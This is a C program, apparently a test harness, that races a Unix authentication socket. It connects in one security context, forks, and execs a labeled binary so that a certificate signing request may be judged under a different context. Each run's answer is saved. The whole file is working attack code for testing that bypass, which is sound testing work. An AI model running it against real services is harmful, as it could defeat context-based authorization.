// SPDX-License-Identifier: Apache-2.0
/*
 * The attack on the authentication socket: a process connects while in one context, hands the
 * connection to a forked child and execs a binary that transitions it into another context, racing
 * the service so that the request is judged by the new context.
 *
 *   connect_exec_race SOCKET CSR_FILE BINARY OUT_DIR RUNS
 *
 * Run i: fork P. P connects to SOCKET and forks C. Even i: C sends the CSR; odd i: P sends it before
 * its exec. C reads the answer into OUT_DIR/i and closes a pipe; P execs BINARY (a labeled copy of
 * cat reading that pipe, so it lives in its new context until the answer is there). This process
 * is a subreaper and waits for both before the next run. Exit 0 when every run completed.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>

static char csr[16384];
static ssize_t csr_len;

static int write_all(int fd, const char *b, size_t n)
{
	while (n) {
		ssize_t w = write(fd, b, n);
		if (w <= 0)
			return -1;
		b += w;
		n -= (size_t)w;
	}
	return 0;
}

static void child(int s, int pipe_w, int send, const char *out)
{
	char buf[16384];
	ssize_t r;
	int o = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0600);

	if (send && write_all(s, csr, (size_t)csr_len))
		_exit(3);
	while ((r = read(s, buf, sizeof(buf))) > 0)
		if (o >= 0 && write_all(o, buf, (size_t)r))
			_exit(4);
	close(o);
	close(pipe_w); /* P's cat ends */
	_exit(0);
}

int main(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int runs, f;

	if (argc != 6) {
		fprintf(stderr, "usage: %s SOCKET CSR_FILE BINARY OUT_DIR RUNS\n", argv[0]);
		return 2;
	}
	f = open(argv[2], O_RDONLY);
	if (f < 0 || (csr_len = read(f, csr, sizeof(csr))) <= 0)
		return 2;
	close(f);
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", argv[1]);
	runs = atoi(argv[5]);
	prctl(PR_SET_CHILD_SUBREAPER, 1);
	for (int i = 0; i < runs; i++) {
		char out[4096];
		pid_t p;
		snprintf(out, sizeof(out), "%s/%d", argv[4], i);
		p = fork();
		if (p < 0)
			return 1;
		if (p == 0) {
			int pp[2], s = socket(AF_UNIX, SOCK_STREAM, 0);
			pid_t c;
			if (s < 0 || pipe(pp) || connect(s, (struct sockaddr *)&a, sizeof(a)))
				_exit(5);
			c = fork();
			if (c == 0) {
				close(pp[0]);
				child(s, pp[1], i % 2 == 0, out);
			}
			close(pp[1]);
			if (i % 2 && write_all(s, csr, (size_t)csr_len))
				_exit(6);
			close(s);
			dup2(pp[0], 0);
			f = open("/dev/null", O_WRONLY);
			dup2(f, 1);
			execl(argv[3], argv[3], (char *)NULL);
			_exit(7);
		}
		/* P and C (reparented to this subreaper once P's image exits) */
		for (int k = 0; k < 2; k++) {
			int st;
			if (wait(&st) < 0)
				break;
			if (WIFEXITED(st) && WEXITSTATUS(st) >= 3) {
				fprintf(stderr, "run %d: a process failed with %d\n", i, WEXITSTATUS(st));
				return 1;
			}
		}
	}
	return 0;
}
